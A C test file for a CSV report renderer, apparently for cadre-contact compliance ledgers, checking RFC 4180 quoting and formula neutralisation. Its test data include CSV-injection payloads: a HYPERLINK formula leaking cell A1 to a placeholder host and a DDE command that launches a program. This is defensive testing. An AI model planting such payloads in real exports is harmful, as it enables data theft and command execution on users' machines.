/* test_render_csv.c -- the CSV renderer: one row per person and rule (or unit), RFC 4180 quoting,
   formulas neutralised (issue 16). */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ml_err.h"
#include "ml_render.h"
#include "ml_test_render.h"

//  -------------------------------------------------------------------------
//  CSV

Test (render, csv_unit_annual_one_row_per_person_and_rule)
{
    json_t *report = t_rn_fixture ("unit_annual");
    char *text = t_rn_render (report, ML_FORMAT_CSV);
    json_t *records = t_rn_csv_parse (text);
    cr_assert_str_eq (t_rn_csv_header (records),
        "单位编号,单位名称,年度,人员编号,姓名,角色,制度,规则,内容,性质,状态,要求,上限,实际,未达月份");
    size_t rules = json_array_size (json_object_get (report, "unit_rules")), index;
    json_t *person;
    json_array_foreach (json_object_get (report, "persons"), index, person)
        rules += json_array_size (json_object_get (person, "rules"));
    cr_assert_eq (json_array_size (records), 1 + rules);
    cr_assert_eq (rules, 43);
    //  Every line ends in CRLF: as many CRs as LFs.
    cr_assert_eq (t_rn_count (text, "\r\n"), t_rn_count (text, "\n"));

    //  P002's half-months, Chinese status, the unit rows without a person.
    size_t missed = t_rn_csv_column (records, "未达月份"), status = t_rn_csv_column (records, "状态");
    int found = 0;
    for (size_t row = 1; row < json_array_size (records); row++)
        if (strcmp (t_rn_csv_field (records, row, 3), "P002") == 0
        &&  strcmp (t_rn_csv_field (records, row, 7), "4.1b") == 0) {
            cr_assert_str_eq (t_rn_csv_field (records, row, missed), "2025-02上、2025-07下、2025-08上");
            cr_assert_str_eq (t_rn_csv_field (records, row, status), "未达标");
            found = 1;
        }
    cr_assert (found);
    size_t last = json_array_size (records) - 1;
    cr_assert_str_eq (t_rn_csv_field (records, last, 3), "");
    cr_assert_str_eq (t_rn_csv_field (records, last, 7), "6.2b");
    cr_assert_str_eq (t_rn_csv_field (records, 3, t_rn_csv_column (records, "上限")), "7");    //  1.3c: 5-7
    json_decref (records);
    json_decref (report);
    free (text);
}

Test (render, csv_quotes_commas_quotes_and_newlines)
{
    json_t *report = t_rn_fixture ("unit_annual");
    json_t *person = json_array_get (json_object_get (report, "persons"), 1);
    const char *name = "欧阳\"明华\", 医务科\n二病区";
    json_object_set_new (person, "name", json_string (name));
    person = json_array_get (json_object_get (report, "persons"), 2);
    json_object_set_new (person, "name", json_string ("李\"明\""));
    char *text = t_rn_render (report, ML_FORMAT_CSV);
    cr_assert (strstr (text, ",\"欧阳\"\"明华\"\", 医务科\n二病区\","), "field not quoted per RFC 4180");
    cr_assert (strstr (text, ",\"李\"\"明\"\"\","), "a field with quotes only is not quoted");
    json_t *records = t_rn_csv_parse (text);
    size_t rows = 0;
    for (size_t row = 1; row < json_array_size (records); row++)
        if (strcmp (t_rn_csv_field (records, row, 4), name) == 0)
            rows++;
    cr_assert_eq (rows, 10, "the quoted name does not round-trip on each of its rows");
    json_decref (records);
    json_decref (report);
    free (text);
}

Test (render, csv_rollup_one_row_per_unit_with_system_columns)
{
    json_t *report = t_rn_fixture ("rollup");
    char *text = t_rn_render (report, ML_FORMAT_CSV);
    json_t *records = t_rn_csv_parse (text);
    cr_assert_str_eq (t_rn_csv_header (records),
        "年度,单位编号,单位名称,人数,检查,达标,未达标,提醒,达标率,"
        "调研蹲点-检查,调研蹲点-达标,调研蹲点-未达标,联系点-检查,联系点-达标,联系点-未达标,"
        "挂职-检查,挂职-达标,挂职-未达标,接访-检查,接访-达标,接访-未达标,"
        "谈心-检查,谈心-达标,谈心-未达标,征求意见-检查,征求意见-达标,征求意见-未达标,"
        "承诺践诺-检查,承诺践诺-达标,承诺践诺-未达标,党代表-检查,党代表-达标,党代表-未达标");
    cr_assert_eq (json_array_size (records), 1 + 8);
    for (size_t row = 0; row < json_array_size (records); row++)
        cr_assert_eq (json_array_size (json_array_get (records, row)), 33);
    cr_assert_str_eq (t_rn_csv_field (records, 4, 1), "H004");
    cr_assert_str_eq (t_rn_csv_field (records, 4, 2), "镇江市第四人民医院");
    cr_assert_str_eq (t_rn_csv_field (records, 4, 8), "76.1%");
    cr_assert_str_eq (t_rn_csv_field (records, 8, 2), "局机关");
    cr_assert_str_eq (t_rn_csv_field (records, 8, t_rn_csv_column (records, "挂职-检查")), "3");
    json_decref (records);
    json_decref (report);
    free (text);
}

Test (render, csv_bulletin_watchlist_cadre_tables)
{
    json_t *report = t_rn_fixture ("bulletin");
    char *text = t_rn_render (report, ML_FORMAT_CSV);
    json_t *records = t_rn_csv_parse (text);
    cr_assert (strncmp (t_rn_csv_header (records), "期间,名次,单位编号,单位名称,检查,达标,未达标,提醒,达标率,调研蹲点-检查,", 92) == 0,
               "bulletin header: %s", t_rn_csv_header (records));
    cr_assert_eq (json_array_size (records), 1 + 8);
    cr_assert_str_eq (t_rn_csv_field (records, 1, 0), "2025-Q1");
    cr_assert_str_eq (t_rn_csv_field (records, 1, 1), "1");
    cr_assert_str_eq (t_rn_csv_field (records, 8, 2), "X001");
    json_decref (records);
    json_decref (report);
    free (text);

    report = t_rn_fixture ("watchlist");
    text = t_rn_render (report, ML_FORMAT_CSV);
    records = t_rn_csv_parse (text);
    cr_assert_str_eq (t_rn_csv_header (records), "年度,单位编号,单位名称,人员编号,姓名,规则,内容,性质,实际,要求,上限");
    cr_assert_eq (json_array_size (records), 1 + 10);
    cr_assert_str_eq (t_rn_csv_field (records, 9, 3), "");           //  unit-level row: no person
    cr_assert_str_eq (t_rn_csv_field (records, 9, 5), "1.3g");
    json_decref (records);
    json_decref (report);
    free (text);

    report = t_rn_fixture ("cadre");
    text = t_rn_render (report, ML_FORMAT_CSV);
    records = t_rn_csv_parse (text);
    cr_assert_eq (json_array_size (records), 1 + 14);
    cr_assert_str_eq (t_rn_csv_field (records, 1, 4), "张建国");
    cr_assert_str_eq (t_rn_csv_field (records, 1, 5), "主要领导、市党代表");
    json_decref (records);
    json_decref (report);
    free (text);
}


//  -------------------------------------------------------------------------
//  Issue 16: formula cells in CSV, control characters in text

//  What a user may type in a ledger that a spreadsheet would run.
static const char *const s_formulas [] = {
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1", "@SUM(A1:A9)", "-cmd|' /C calc'!A0",
    "\tTAB", "\rCR", NULL
};

//  Asserts that every field of RECORDS is either the report's own or a neutralised formula:
//  no field starts with = + - @ TAB CR unless it is a number; returns how many start with '.
static size_t
s_assert_no_formula (const json_t *records, const char *kind)
{
    size_t guarded = 0, row, col;
    json_t *record, *field;
    json_array_foreach (records, row, record)
        json_array_foreach (record, col, field) {
            const char *value = json_string_value (field);
            if (value [0] == '\'')
                guarded++;
            if (!value [0] || !strchr ("=+-@\t\r", value [0]))
                continue;
            char *end;
            strtod (value, &end);
            cr_assert (*end == 0 || strcmp (end, "%") == 0,
                       "%s csv: row %zu column %zu is a live formula: %s", kind, row, col, value);
        }
    return guarded;
}

//  Whether one field of RECORDS is exactly "'" followed by FORMULA.
static int
s_has_guarded (const json_t *records, const char *formula)
{
    size_t row, col;
    json_t *record, *field;
    json_array_foreach (records, row, record)
        json_array_foreach (record, col, field) {
            const char *value = json_string_value (field);
            if (value [0] == '\'' && strcmp (value + 1, formula) == 0)
                return 1;
        }
    return 0;
}

Test (render, csv_neutralises_formulas_in_text_of_every_report_kind)
{
    struct { const char *fixture; const char *array; const char *keys [3]; } kinds [] = {
        { "unit_annual", "persons", { "name", "person", NULL } },
        { "rollup", "units", { "unit_name", "unit", NULL } },
        { "cadre", NULL, { "name", "person", NULL } },
        { "bulletin", "units", { "unit_name", "unit", NULL } },
        { "watchlist", "rows", { "name", "text", "unit_name" } },
    };
    for (size_t k = 0; k < sizeof kinds / sizeof kinds [0]; k++) {
        json_t *report = t_rn_fixture (kinds [k].fixture);
        json_t *items = kinds [k].array? json_object_get (report, kinds [k].array): NULL;
        size_t count = items? json_array_size (items): 1, used = 0;
        //  Each item gets a formula in each key, round the list of formulas.
        for (size_t i = 0; i < count; i++) {
            json_t *item = items? json_array_get (items, i): json_object_get (report, "person");
            for (size_t key = 0; key < 3 && kinds [k].keys [key]; key++)
                if (json_is_string (json_object_get (item, kinds [k].keys [key])))
                    json_object_set_new (item, kinds [k].keys [key],
                                         json_string (s_formulas [used++ % 6]));
        }
        if (k == 0) {
            //  A number the report computed stays a number, even negative.
            json_t *rule = json_array_get (json_object_get (
                json_array_get (json_object_get (report, "persons"), 0), "rules"), 0);
            json_object_set_new (rule, "actual", json_integer (-3));
        }
        char *text = t_rn_render (report, ML_FORMAT_CSV);
        json_t *records = t_rn_csv_parse (text);
        cr_assert_gt (s_assert_no_formula (records, kinds [k].fixture), 0, "%s", kinds [k].fixture);
        for (size_t f = 0; f < used && f < 6; f++)
            cr_assert (s_has_guarded (records, s_formulas [f]), "%s csv: %s is not neutralised",
                       kinds [k].fixture, s_formulas [f]);
        if (k == 0)
            cr_assert_str_eq (t_rn_csv_field (records, 1, t_rn_csv_column (records, "实际")), "-3");
        json_decref (records);
        json_decref (report);
        free (text);
    }
}
